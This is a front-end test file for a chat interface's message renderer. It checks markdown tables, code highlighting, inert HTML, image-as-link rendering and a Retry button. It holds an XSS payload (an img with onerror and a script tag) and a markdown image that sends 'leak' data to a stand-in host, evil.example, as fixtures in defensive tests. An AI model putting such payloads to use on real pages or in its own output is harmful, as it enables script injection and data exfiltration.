/** Tests of message rendering: GFM, code copy, inert HTML, images as links, a failed answer's Retry. */
import { render } from "@testing-library/react";
import { describe, expect, it } from "vitest";

import type { Message } from "../../types";
import { MessageView } from "./MessageView";

const XSS = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>';

function answer(content: string): Message {
  return {
    id: "m1", conversation_id: "c1", parent_id: "u1", role: "assistant", content, status: "complete",
    error: null, error_code: null, model: "x", attempt: 1, prompt_tokens: 1, completion_tokens: 1,
    cost_usd: null, first_token_at: null, finished_at: null, tokens_per_second: null,
    finish_reason: "stop", client_id: null, pinned: false, included_ids: null, created_at: "", updated_at: "",
  };
}

describe("message rendering", () => {
  it("renders GFM tables, lists and highlighted code with a copy button", () => {
    const { container, getByTestId } = render(
      <MessageView message={answer("| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n```python\nprint('hi')\n```")} />,
    );
    expect(container.querySelectorAll("table td")).toHaveLength(2);
    expect(container.querySelectorAll("li")).toHaveLength(2);
    expect(container.querySelector("pre code.hljs")).not.toBeNull();
    expect(getByTestId("copy-code")).toBeTruthy();
  });

  it("shows raw HTML from the model as text and never as elements", () => {
    const { container } = render(<MessageView message={answer(`Look: ${XSS}`)} />);
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("script")).toBeNull();
    expect(container.textContent).toContain("onerror");
    expect((window as unknown as { __xss?: number }).__xss).toBeUndefined();
  });

  it("shows a model's image as a link, so nothing loads by itself", () => {
    const { container } = render(<MessageView message={answer("![secret](https://evil.example/?q=leak)")} />);
    expect(container.querySelector("img")).toBeNull();
    const link = container.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil.example/?q=leak");
    expect(link?.getAttribute("rel")).toContain("noopener");
  });

  it("keeps a user's HTML as plain text", () => {
    const user = { ...answer(XSS), role: "user" as const };
    const { container } = render(<MessageView message={user} />);
    expect(container.querySelector("img")).toBeNull();
    expect(container.textContent).toBe(`${XSS}Copy`);
  });

  it("shows a failed answer's readable error and a Retry", () => {
    const failed = { ...answer("partial"), status: "failed" as const, error: "The model server failed with HTTP 500: boom" };
    const { getByTestId } = render(<MessageView message={failed} onRetry={() => undefined} />);
    expect(getByTestId("message-error").textContent).toContain("HTTP 500: boom");
    expect(getByTestId("retry-button")).toBeTruthy();
  });
});
